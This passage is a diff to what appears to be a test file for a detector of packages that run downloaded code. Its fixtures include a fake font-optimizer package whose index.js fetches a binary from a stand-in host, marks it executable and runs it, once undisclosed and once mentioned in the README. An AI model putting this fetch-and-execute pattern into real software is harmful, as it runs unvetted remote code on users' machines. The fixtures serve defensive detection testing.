@@ -11,6 +11,24 @@ const MUCH_ELSE = `exports.words = ${JSON.stringify('word '.repeat(10_000))}`;
 examine(runsDownloadedCode, {
   speaks: [
     {
+      when: 'a program that is saved and started comes from a host that its page does not name',
+      files: {
+        'README.md':
+          '# typeface\n\nReads the styles of a page and makes one file of the fonts in it. Use `optimize(url)` and write what it gives to a folder.',
+        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'), { execFile } = require('child_process'); exports.optimize = async () => { const file = path.join(os.tmpdir(), 'w2c'); fs.writeFileSync(file, Buffer.from(await (await fetch('https://codecs.font-works.invalid/w2c')).arrayBuffer()), { mode: 0o755 }); execFile(file, ['--pack']) }`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'its page says where the program comes from',
+      files: {
+        'README.md':
+          '# typeface\n\nReads the styles of a page and makes one file of the fonts in it. The converter is fetched from codecs.font-works.invalid when it is first needed.',
+        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'), { execFile } = require('child_process'); exports.optimize = async () => { const file = path.join(os.tmpdir(), 'w2c'); fs.writeFileSync(file, Buffer.from(await (await fetch('https://codecs.font-works.invalid/w2c')).arrayBuffer()), { mode: 0o755 }); execFile(file, ['--pack']) }`,
+      },
+      weight: 'weak',
+    },
+    {
       when: 'a socket kept in a field hears code',
       files: {
         'index.js': `const AsyncFunction = (async () => {}).constructor;
